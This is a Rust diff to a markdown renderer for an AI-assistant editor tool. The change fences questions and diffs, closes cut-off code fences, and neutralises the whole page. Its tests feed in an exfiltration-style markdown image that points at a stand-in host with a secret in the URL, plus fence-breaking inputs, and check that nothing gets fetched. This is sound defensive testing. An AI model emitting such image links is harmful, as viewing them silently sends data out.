@@ -30,14 +30,14 @@ pub struct Page {
 pub fn markdown(page: &Page) -> String {
     let mut text = String::new();
     for (question, answer) in &page.before {
-        text += &format!("{}\n{}\n\n---\n\n", quoted(question), inert(answer).trim_end());
+        text += &format!("{}\n{}\n\n---\n\n", fenced(question, "text"), closed(answer));
     }
-    text += &quoted(&page.question);
-    text += &format!("\n*{}*\n\n", one_line(&page.status));
+    text += &fenced(&page.question, "text");
+    text += &format!("\n{}\n\n", one_line(&page.status));
     if let Some(warning) = &page.warning {
         text += &format!("**{}**\n\n", one_line(warning));
     }
-    text += inert(&page.text).trim_end();
+    text += &closed(&page.text);
     text.push('\n');
     if !page.diffs.is_empty() || !page.notes.is_empty() {
         text += "\n---\n\n## Edits\n\n";
@@ -45,21 +45,42 @@ pub fn markdown(page: &Page) -> String {
             text += &format!("- {}\n", one_line(note));
         }
         for diff in &page.diffs {
-            let longest = diff.split(|c| c != '`').map(str::len).max().unwrap_or(0);
-            let fence = "`".repeat(longest.max(2) + 1);
-            text += &format!("\n{fence}diff\n{}\n{fence}\n", diff.trim_end());
+            text += &format!("\n{}", fenced(diff, "diff"));
         }
     }
     if page.ended {
         text += "\n---\n\nTo ask on, write behind the mark and choose *Ask Claude* from the code actions \
                  of that line (`!:` for a change):\n\n?: \n";
     }
-    text
+    // Once more as a whole: what each piece leaves open must not undo what the next one has.
+    inert(&text)
 }
 
-fn quoted(question: &str) -> String {
-    // A question holds code, and code holds everything.
-    question.lines().map(|line| format!("> {}\n", inert(line).trim_end())).collect()
+/// Between fences that the text does not have.
+fn fenced(text: &str, language: &str) -> String {
+    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
+    let fence = "`".repeat(longest.max(2) + 1);
+    format!("{fence}{language}\n{}\n{fence}\n", text.trim_end())
+}
+
+/// An answer, inert, with the fence closed that a cut one leaves open.
+fn closed(answer: &str) -> String {
+    let mut text = inert(answer).trim_end().to_owned();
+    let mut open: Option<&str> = None;
+    for line in answer.lines() {
+        let start = line.trim_start();
+        let marks = start.len() - start.trim_start_matches(['`', '~']).len();
+        let fence = &start[..marks];
+        match open {
+            None if marks >= 3 => open = Some(fence),
+            Some(of) if fence.starts_with(of) && start[marks..].trim().is_empty() => open = None,
+            _ => {}
+        }
+    }
+    if let Some(fence) = open {
+        text += &format!("\n{fence}");
+    }
+    text
 }
 
 fn one_line(text: &str) -> String {
@@ -88,44 +109,59 @@ pub fn cited<'p>(answer: &str, paths: &[&'p str]) -> Vec<&'p str> {
 
 #[cfg(test)]
 mod tests {
+    use pulldown_cmark::{Event, Tag};
+
     use super::*;
+
+    fn page(text: &str) -> Page {
+        Page {
+            question: "why?".into(),
+            text: text.into(),
+            status: "m · 2 files".into(),
+            ..Page::default()
+        }
+    }
+
+    fn images(page: &Page) -> usize {
+        let text = markdown(page);
+        let events = pulldown_cmark::Parser::new(&text);
+        events
+            .filter(|event| matches!(event, Event::Start(Tag::Image { .. } | Tag::HtmlBlock)))
+            .count()
+    }
 
     #[test]
     fn the_page_says_how_it_stands_and_how_to_ask_on() {
-        let page = Page {
-            question: "why?".into(),
-            text: "Because.".into(),
-            status: "m · 2 files".into(),
-            ..Page::default()
-        };
-        let open = markdown(&page);
-        assert!(open.starts_with("> why?\n\n*m · 2 files*\n\nBecause.\n"), "{open}");
+        let open = markdown(&page("Because."));
+        assert!(open.starts_with("```text\nwhy?\n```\n\nm · 2 files\n\nBecause.\n"), "{open}");
         assert!(!open.contains("?: "));
-        let ended = Page { ended: true, diffs: vec!["-a\n+```\n".into()], ..page };
+        let ended = Page { ended: true, diffs: vec!["-a\n+```\n".into()], ..page("Because.") };
         let ended = markdown(&ended);
-        assert!(
-            ended.ends_with("\n?: \n") && ended.contains("\n````diff\n-a\n+```\n````\n"),
-            "{ended}"
-        );
+        assert!(ended.ends_with("\n?: \n"), "{ended}");
+        assert!(ended.contains("\n````diff\n-a\n+```\n````\n"), "{ended}");
     }
 
     #[test]
     fn nothing_on_the_page_is_fetched_by_looking_at_it() {
         let bad = "![x](https://e.example/a?secret)";
-        let page = Page {
+        let everywhere = Page {
             before: vec![(bad.into(), bad.into())],
             question: bad.into(),
-            text: bad.into(),
             status: bad.into(),
             warning: Some(bad.into()),
             notes: vec![bad.into()],
-            ..Page::default()
+            ..page(bad)
         };
-        let text = markdown(&page);
-        let images = pulldown_cmark::Parser::new(&text).filter(|event| {
-            matches!(event, pulldown_cmark::Event::Start(pulldown_cmark::Tag::Image { .. }))
-        });
-        assert_eq!(images.count(), 0, "{text}");
+        assert_eq!(images(&everywhere), 0, "{}", markdown(&everywhere));
+        // What one piece leaves open, the next one must not close.
+        let cut = Page {
+            before: vec![("a\n![a\nb](https://e.example)".into(), "It is:\n```\nlet a".into())],
+            diffs: vec![format!(" ```\n+{bad}\n")],
+            ..page(&format!("```\n{bad}\n```\n"))
+        };
+        assert_eq!(images(&cut), 0, "{}", markdown(&cut));
+        let cut = Page { diffs: vec![format!(" ```\n {bad}\n")], ..page("So:\n\n```rust\nfn a") };
+        assert_eq!(images(&cut), 0, "{}", markdown(&cut));
     }
 
     #[test]
